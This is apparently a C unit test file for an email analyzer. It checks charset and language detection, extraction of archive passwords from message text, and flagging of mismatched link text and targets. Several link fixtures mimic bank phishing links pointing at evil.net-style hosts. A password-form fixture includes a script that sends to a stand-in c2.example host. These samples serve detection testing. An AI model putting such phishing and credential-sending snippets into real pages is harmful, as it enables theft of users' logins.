/* Text of parts: charset, language, passwords, links that show another place. */
#include "look.h"
#include "../../analyzer/observe/text.h"

static size_t
text_part(const char *label, struct sk_span bytes)
{
	size_t self;

	look_new();
	self = look_part(SK_TYPE_TEXT, "text/plain", label, bytes, true);
	(void)look_with("words", self);
	return self;
}

static size_t
html_part(const char *text)
{
	size_t self;

	look_new();
	self = look_part(SK_TYPE_HTML, "text/html", "utf-8", sk_span_text(text), true);
	(void)look_with("words", self);
	(void)look_with("html", self);
	return self;
}

/* "お世話になっております。山田です。" in three charsets */
#define JIS "\x1B$B$*@$OC$K$J$C$F$*$j$^$9!#;3ED$G$9!#\x1B(B\r\n"
#define SJIS "\x82\xA8\x90\xA2\x98\x62\x82\xC9\x82\xC8\x82\xC1\x82\xC4\x82\xA8\x82\xE8\x82\xDC\x82\xB7\x81\x42\x8E\x52\x93\x63\x82\xC5\x82\xB7\x81\x42\r\n"
#define EUC "\xA4\xAA\xC0\xA4\xCF\xC3\xA4\xCB\xA4\xCA\xA4\xC3\xA4\xC6\xA4\xAA\xA4\xEA\xA4\xDE\xA4\xB9\xA1\xA3\xBB\xB3\xC5\xC4\xA4\xC7\xA4\xB9\xA1\xA3\r\n"

static void
charsets(void **state)
{
	static const struct { const char *label, *bytes, *declared, *actual; } t[] = {
		{ "iso-2022-jp", JIS, "iso-2022-jp", "iso-2022-jp" },
		{ "us-ascii", JIS, "us-ascii", "iso-2022-jp" },
		{ "", JIS, "", "iso-2022-jp" },
		{ "Shift_JIS", SJIS, "shift_jis", "shift_jis" },
		{ "iso-2022-jp", SJIS, "iso-2022-jp", "shift_jis" },
		{ "iso-8859-1", SJIS, "iso-8859-1", "shift_jis" },
		{ "euc-jp", EUC, "euc-jp", "euc-jp" },
		{ "utf-8", EUC, "utf-8", "euc-jp" },
		{ "utf-8", "お世話になっております。山田です。\r\n", "utf-8", "utf-8" },
		{ "iso-2022-jp", "お世話になっております。山田です。\r\n", "iso-2022-jp", "utf-8" },
		{ "X-Made-Up", "hello", "x-made-up", "us-ascii" },
		{ "utf-8", "\xEF\xBB\xBFhello", "utf-8", "utf-8" },
		{ "", "\xFF\xFEh\0i\0", "", "utf-16le" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof t / sizeof *t; i++) {
		size_t n = i + 1 == sizeof t / sizeof *t ? 6 : strlen(t[i].bytes);
		size_t self = text_part(t[i].label, (struct sk_span){ (const uint8_t *)t[i].bytes, n });
		struct sk_look l = look_with("url", self);
		struct sk_span text = sk_observe_text(&l, NULL, NULL);

		if (strcmp(look_all(self, SK_KEY_TEXT_CHARSET_DECLARED), t[i].declared) != 0 ||
		    strcmp(look_all(self, SK_KEY_TEXT_CHARSET_TRUE), t[i].actual) != 0)
			fail_msg("%zu: %s %s", i, look_all(self, SK_KEY_TEXT_CHARSET_DECLARED),
			    look_all(self, SK_KEY_TEXT_CHARSET_TRUE));
		if (i < 10) {
			assert_true(sk_span_begins(text, SK_SPAN("お世話になっております。山田です。")));
			LOOK_HAS(self, TEXT_LANGUAGE, "ja");
			assert_int_equal(sk_record_count(tree.record, self, SK_KEY_TEXT_CHARS), 17);
		}
	}
}

static void
html_charset(void **state)
{
	size_t self;
	struct sk_look l;
	enum sk_charset declared, actual;
	struct sk_span text;

	(void)state;
	look_new();
	self = look_part(SK_TYPE_HTML, "text/html", "",
	    SK_SPAN("<html><head><meta charset=shift_jis></head><body><p>" SJIS "</p>"), true);
	l = look_with("words", self);
	text = sk_observe_text(&l, &declared, &actual);
	assert_true(sk_span_begins(text, SK_SPAN("お世話になっております。山田です。")));
	assert_int_equal(declared, SK_CS_SJIS);
	assert_int_equal(actual, SK_CS_SJIS);
	assert_ptr_equal(sk_observe_text(&l, NULL, NULL).p, text.p);	/* once per object */
}

static void
languages(void **state)
{
	static const struct { const char *text, *language; } t[] = {
		{ "お世話になっております。請求書をお送りいたします。", "ja" },
		{ "Hi, please find attached the invoice for May. Thank you.", "en" },
		{ "您好，请查收附件中的发票，谢谢您的支持。", "zh" },
		{ "안녕하세요. 첨부 파일을 확인해 주세요.", "ko" },
		{ "Здравствуйте, счет во вложении. Спасибо.", "ru" },
		{ "Sehr geehrte Damen und Herren, anbei erhalten Sie die Rechnung.", "other" },
		{ "12345 !!! ---", "none" },
		{ "", "none" },
		{ "添付資料をご確認ください https://www.example.co.jp/very/long/path/to/some/page.html?id=1234567890",
		    "ja" },
		{ "Dear Tanaka-san,\nPlease see the attached file.\n株式会社サンプル 山田", "en" },
		{ "請求書在中\nよろしく", "ja" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof t / sizeof *t; i++)
		if (strcmp(sk_text_language(sk_span_text(t[i].text), SK_CS_UTF8), t[i].language) != 0)
			fail_msg("%s: %s", t[i].text, sk_text_language(sk_span_text(t[i].text), SK_CS_UTF8));
	assert_string_equal(sk_text_language(SK_SPAN("請求書在中"), SK_CS_ISO2022JP), "ja");
}

/* --- passwords: text, candidates joined by "|", hints --- */

static const struct { const char *text, *tokens, *hints; } passwords[] = {
	{ "解凍パスワード：abc123", "abc123", "here" },
	{ "パスワードは「Ab#9!x」です。", "Ab#9!x", "here" },
	{ "【パスワード】\n20160517\n", "20160517", "here" },
	{ "ＰＷ：ｓｅｋｉ２０１６", "seki2016", "here" },
	{ "ﾊﾟｽﾜｰﾄﾞは sekisho です", "sekisho", "here" },
	{ "パスワード 447711", "447711", "here" },
	{ "添付ファイルの解凍パスワードは以下の通りです。\r\n\r\n-----------\r\nxY7+kk2Q\r\n-----------\r\n",
	    "xY7+kk2Q", "here" },
	{ "添付ファイル名：資料.zip\n解凍パスワード：  8fJ2kd", "8fJ2kd", "here" },
	{ "パスワード（半角英数字）：Tokyo2020", "Tokyo2020", "here" },
	{ "パスワードは下記です\n→ qwerty99", "qwerty99", "here" },
	{ "パスは『1234』です。パスワード『1234』", "1234", "here" },
	{ "「abc-123」で解凍してください。", "abc-123", "here" },
	{ "20160517で解凍願います", "20160517", "here" },
	{ "パスワード：「桜」", "桜", "here" },
	{ "以下のパスワードで解凍してください。\n\nhj7Ks9\n\n山田", "hj7Ks9", "here" },
	{ "■パスワード■ zz99zz", "zz99zz", "here" },
	{ "The password is infected.", "infected|infected.", "here" },
	{ "Archive pass: 4412", "4412", "here" },
	{ "zip password - 993812", "993812", "here" },
	{ "Password for the attached file: Inv-2291", "Inv-2291", "here" },
	{ "Please use \"open-me\" as the password.", "open-me", "here" },
	{ "File password: abc444", "abc444", "here" },
	{ "Password to open the document is X9k2.", "X9k2|X9k2.", "here" },
	{ "<p>password:\n\n  winter18\n", "winter18", "here" },
	{ "「Kawa-2231」がファイルを開くためのパスワードとなります。", "Kawa-2231", "here" },
	{ "パスワード ==> kaikei-2026", "kaikei-2026", "here" },
	{ "【PASS】Nagi#41／棚卸データ", "Nagi#41|Nagi#41/", "here" },
	{ "パスワードは順に、omi.hei1 と omi.ritsu2 になります", "omi.hei1|omi.ritsu2", "here" },
	{ "パスワードはそれぞれ a11、b22、c33 です", "a11|b22|c33", "here" },
	{ "I set its password to Pippin_1892 this morning", "Pippin_1892", "here" },
	{ "The password's Heron_3 (capital H).", "Heron_3", "here" },
	{ "asks for a password: key in 905-Lx and press OK", "905-Lx", "here" },
	/* later */
	{ "暗号化しています。鍵は8月17日に自動配信されるメールでお届けします。", "", "later" },
	{ "It is encrypted. As agreed the key will reach you by courier.", "", "later" },
	{ "Look out for a text message with the password.", "", "later" },
	{ "パスワードは別途お送りします。", "", "later" },
	{ "解凍パスワードは別メールにてご連絡いたします。", "", "later" },
	{ "後ほどパスワードをお知らせします。", "", "later" },
	{ "パスワードはお電話にてお伝えします。TEL 03-1234-5678", "", "later" },
	{ "The password will be sent separately.", "", "later" },
	{ "I will send you the password in another email.", "", "later" },
	{ "パスワー\u200Bドは別途送付します", "", "later" },
	/* a rule */
	{ "パスワードは私の携帯電話番号の下4桁です。", "", "rule" },
	{ "パスワードは弊社の電話番号下４桁です。", "", "rule" },
	{ "パスワードはいつものものです。", "", "rule" },
	{ "Password is your date of birth (YYYYMMDD).", "", "rule" },
	{ "パスワードは送った日を西暦下2桁＋月2桁＋日2桁で表したものです。", "", "rule" },
	/* neither: what honest mail says of passwords */
	{ "パスワード：＿＿＿＿＿＿（8文字以上）", "", "" },
	{ "パスワード：********（安全のため表示していません）", "", "" },
	{ "パスワード：●●●●●●", "", "" },
	{ "Password: XXXXXXXX", "", "" },
	{ "password = getpass.getpass(\"Password: \")", "", "" },
	{ "raise SystemExit(\"password: empty\")", "", "" },
	{ "PASS: 120\nFAIL: 2", "", "" },
	{ "Boarding pass: LH717", "", "" },
	{ "Please return form PW-12.", "", "" },
	{ "「Windows10」が動くPCのパスワードを変更してください。", "", "" },
	{ "Password: use the usual", "", "rule" },
	{ "The password's strength.", "", "" },
	{ "Change your password to continue.", "", "" },
	{ "倉庫の鍵は後ほどお渡しします。", "", "" },
	{ "パスワードを忘れた方はこちら https://www.example.co.jp/reset", "", "" },
	{ "パスワードの有効期限は30日です。", "", "" },
	{ "パスワードは8文字以上で設定してください。", "", "" },
	{ "パスワード付きzipファイルを添付しました。", "", "" },
	{ "Reset your password: https://www.example.com/reset?x=1", "", "" },
	{ "Your password is about to expire.", "", "" },
	{ "Password is required.", "", "" },
	{ "Forgot your password? Click here", "", "" },
	{ "Please pass 10 boxes to him", "", "" },
	{ "Password:\nForgot your password? Contact us at help@example.com", "", "" },
	{ "パスワード：＊＊＊＊＊＊", "", "" },
	{ "パスワードをご確認ください。\n株式会社サンプル ABC Trading", "", "" },
	{ "ID・パスワードの管理にご注意ください。", "", "" },
	{ "ログインパスワード：こちらのメールには記載しておりません", "", "" },
};

static void
password_phrases(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof passwords / sizeof *passwords; i++) {
		size_t self = text_part("utf-8", sk_span_text(passwords[i].text));

		if (strcmp(look_all(self, SK_KEY_TEXT_PASSWORD), passwords[i].tokens) != 0 ||
		    strcmp(look_all(self, SK_KEY_TEXT_PASSWORD_HINT), passwords[i].hints) != 0)
			print_error("%s: \"%s\" \"%s\"\n", passwords[i].text,
			    look_all(self, SK_KEY_TEXT_PASSWORD), look_all(self, SK_KEY_TEXT_PASSWORD_HINT));
	}
	for (size_t i = 0; i < sizeof passwords / sizeof *passwords; i++) {
		size_t self = text_part("utf-8", sk_span_text(passwords[i].text));

		LOOK_HAS(self, TEXT_PASSWORD, passwords[i].tokens);
		LOOK_HAS(self, TEXT_PASSWORD_HINT, passwords[i].hints);
	}
}

static void
at_most_twenty(void **state)
{
	struct sk_buf b;
	size_t self, n = 0;
	const struct sk_observation *o;

	(void)state;
	look_new();
	b = sk_buf_new(arena, 1 << 20);
	for (int i = 0; i < 500; i++)
		sk_buf_printf(&b, "パスワード：x%04d\n", i);
	self = look_part(SK_TYPE_TEXT, "text/plain", "utf-8", sk_buf_view(&b), true);
	(void)look_with("words", self);
	self = look_part(SK_TYPE_TEXT, "text/plain", "utf-8", SK_SPAN("パスワード：yyyy1"), true);
	(void)look_with("words", self);
	for (size_t i = 0; i < tree.n; i++)
		for (o = sk_record_find(tree.record, i, SK_KEY_TEXT_PASSWORD); o != NULL;
		    o = sk_record_next(tree.record, o))
			n++;
	assert_int_equal(n, 20);
	assert_int_equal(sk_key_table[SK_KEY_TEXT_PASSWORD].cls, SK_SECRET);
}

static void
in_subject(void **state)
{
	(void)state;
	look_new();
	look_header("From: a@b.example\nSubject: 資料（パスワード：k7k7）\n");
	(void)look_with("header", 0);
	(void)look_with("words", 0);
	LOOK_HAS(0, TEXT_PASSWORD, "k7k7|k7k7)");
	LOOK_HAS(0, TEXT_PASSWORD_HINT, "here");
}

/* --- links --- */

static const struct { const char *html, *differs; } links[] = {
	{ "<a href='https://evil.example.net/x'>https://www.bank.co.jp/login</a>",
	    "www.bank.co.jp\tevil.example.net" },
	{ "<a href='https://evil.net'>www.bank.co.jp</a>", "www.bank.co.jp\tevil.net" },
	{ "<a href='https://evil.net'>bank.co.jp</a>", "bank.co.jp\tevil.net" },
	{ "<a href='https://evil.net'>ｗｗｗ．ｂａｎｋ．ｃｏ．ｊｐ</a>", "www.bank.co.jp\tevil.net" },
	{ "<a href='http://192.0.2.7/a'>https://www.bank.co.jp/</a>", "www.bank.co.jp\t192.0.2.7" },
	{ "<a href='https://www.bank.co.jp@evil.net/'>https://www.bank.co.jp/</a>", "www.bank.co.jp\tevil.net" },
	{ "<a href='https:\\\\evil.net/'>詳細は https://www.bank.co.jp/ へ</a>", "www.bank.co.jp\tevil.net" },
	{ "<a href='//evil.net/x'>https://bank.co.jp</a>", "bank.co.jp\tevil.net" },
	/* honest ones */
	{ "<a href='https://click.bank.co.jp/?id=1'>https://www.bank.co.jp/news</a>", "" },
	{ "<a href='https://www.bank.co.jp/'>こちらをクリック</a>", "" },
	{ "<a href='https://click.esp.example.com/1'>ご予約はこちら</a>", "" },
	{ "<a href='https://storage.example.com/1'>報告書.zip</a>", "" },
	{ "<a href='https://storage.example.com/1'>report.zip</a>", "" },
	{ "<a href='https://github.com/x'>ASP.NET Core</a>", "" },
	{ "<a href='mailto:a@bank.co.jp'>a@bank.co.jp</a>", "" },
	{ "<a href='https://www.example.com/u'>taro@bank.co.jp</a>", "" },
	{ "<a href='#top'>https://www.bank.co.jp/</a>", "" },
	{ "<a href='https://nam01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fwww.bank.co.jp%2Fx&amp;data=1'>"
	    "https://www.bank.co.jp/x</a>", "" },
	{ "<a href='https://urldefense.com/v3/__https://www.bank.co.jp/__;!!x'>https://www.bank.co.jp/</a>", "" },
	{ "<a href='https://nam01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.net%2Fx'>"
	    "https://www.bank.co.jp/x</a>", "www.bank.co.jp\tevil.net" },
	{ "<a href='https://evil.net/?url=https://www.bank.co.jp/'>https://www.bank.co.jp/</a>",
	    "www.bank.co.jp\tevil.net" },
};

static void
link_differs(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
		size_t self = html_part(links[i].html);

		if (strcmp(look_all(self, SK_KEY_HTML_LINK_DIFFERS), links[i].differs) != 0)
			fail_msg("%s: %s", links[i].html, look_all(self, SK_KEY_HTML_LINK_DIFFERS));
	}
}

static void
password_forms(void **state)
{
	size_t self;

	(void)state;
	self = html_part("<form action='https://collect.example/p.php' method=post><input type=password></form>");
	LOOK_HAS(self, HTML_FORM, "collect.example");
	self = html_part("<form><input type=password></form><script>fetch('https://c2.example/in.php',{})</script>");
	LOOK_HAS(self, HTML_FORM, "c2.example");
	self = html_part("<form action='login'><input type=password></form>");
	LOOK_HAS(self, HTML_FORM, "unknown");
	self = html_part("<form action='https://survey.example/'><input type=text></form>");
	LOOK_HAS(self, HTML_FORM, "");
}

static void
kinds_of_parts(void **state)
{
	size_t self;

	(void)state;
	look_new();	/* a page that says it is plain text shows its source */
	self = look_part(SK_TYPE_HTML, "text/plain", "utf-8", SK_SPAN("<p>a</p>"), true);
	(void)look_with("words", self);
	assert_int_equal(sk_record_count(tree.record, self, SK_KEY_TEXT_CHARS), 8);
	look_new();	/* text that says it is a page is one */
	self = look_part(SK_TYPE_TEXT, "text/html", "utf-8", SK_SPAN("a &amp; b"), true);
	(void)look_with("words", self);
	assert_int_equal(sk_record_count(tree.record, self, SK_KEY_TEXT_CHARS), 3);
	look_new();	/* what is no text has none */
	self = look_part(SK_TYPE_PE, "application/octet-stream", "", SK_SPAN("MZ"), false);
	(void)look_with("words", self);
	(void)look_with("html", self);
	(void)look_with("url", self);
	LOOK_HAS(self, TEXT_LANGUAGE, "");
}

static void
limit_is_a_gap(void **state)
{
	size_t self;
	struct sk_buf b;

	(void)state;
	look_new();
	budget.limit[SK_LIMIT_TEXT_BYTES] = 4096;
	b = sk_buf_new(arena, 1 << 20);
	for (int i = 0; i < 2000; i++)
		sk_buf_text(&b, "あいう");
	self = look_part(SK_TYPE_TEXT, "text/plain", "utf-8", sk_buf_view(&b), true);
	(void)look_with("words", self);
	LOOK_HAS(self, OBJECT_GAP, "text_bytes");
	assert_int_equal(sk_record_count(tree.record, self, SK_KEY_TEXT_CHARS), 4096 / 3);
	look_new();
	self = look_part(SK_TYPE_TEXT, "text/csv", "utf-8", sk_buf_view(&b), false);
	(void)look_with("words", self);
	LOOK_HAS(self, OBJECT_GAP, "");
}

/* An attached list is no letter: only addresses are looked for, near its begin. */
static void
lists_are_no_letters(void **state)
{
	struct sk_buf b;
	size_t self;

	(void)state;
	for (int body = 0; body < 2; body++) {
		look_new();
		b = sk_buf_new(arena, 1 << 20);
		sk_buf_text(&b, "パスワード：abc123\nhttp://near.example.com/\n");
		while (b.n < 65536)
			sk_buf_text(&b, "あいう,１２３\n");
		sk_buf_text(&b, "http://far.example.com/\n");
		self = look_part(SK_TYPE_TEXT, "text/plain", "utf-8", sk_buf_view(&b), body);
		(void)look_with("words", self);
		(void)look_with("url", self);
		LOOK_HAS(self, TEXT_CHARSET_TRUE, "utf-8");
		LOOK_HAS(self, TEXT_PASSWORD, body ? "abc123" : "");
		LOOK_HAS(self, TEXT_LANGUAGE, body ? "ja" : "");
		LOOK_HAS(self, INDICATOR_URL, body ? "http://near.example.com/|http://far.example.com/" :
		    "http://near.example.com/");
	}
	look_new();	/* a short one may be: パスワード.txt */
	self = look_part(SK_TYPE_TEXT, "text/plain", "utf-8", SK_SPAN("パスワード：abc123"), false);
	(void)look_with("words", self);
	LOOK_HAS(self, TEXT_PASSWORD, "abc123");
}

/* Runs are passed in blocks: what is not settled is found wherever it stands. */
static void
plain_anywhere(void **state)
{
	static const char *const odd[] = { "　", "Ａ", "\xE2\x80\x8B", "é", "\xC2\xA0" };
	static const char *const made[] = { " ", "A", "", "é", " " };

	(void)state;
	for (size_t at = 0; at < 400; at++)
		for (size_t k = 0; k < sizeof odd / sizeof *odd; k++) {
			struct sk_buf in, want;
			struct sk_span got;

			look_new();
			in = sk_buf_new(arena, 4096);
			want = sk_buf_new(arena, 4096);
			for (size_t i = 0; i < 400; i++) {
				sk_buf_text(&in, i == at ? odd[k] : i % 7 == 0 ? "x" : "字");
				sk_buf_text(&want, i == at ? made[k] : i % 7 == 0 ? "x" : "字");
			}
			got = sk_text_plain_of(sk_buf_view(&in), arena, 4096);
			assert_true(sk_span_same(got, sk_buf_view(&want)));
			assert_int_equal(sk_text_chars(sk_buf_view(&in)), k == 1 || k == 3 ? 400 : 399);
		}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(charsets), cmocka_unit_test(html_charset), cmocka_unit_test(languages),
		cmocka_unit_test(password_phrases), cmocka_unit_test(at_most_twenty),
		cmocka_unit_test(in_subject), cmocka_unit_test(link_differs),
		cmocka_unit_test(password_forms), cmocka_unit_test(kinds_of_parts),
		cmocka_unit_test(limit_is_a_gap), cmocka_unit_test(lists_are_no_letters),
		cmocka_unit_test(plain_anywhere),
	};

	return cmocka_run_group_tests(tests, look_begin, look_end);
}
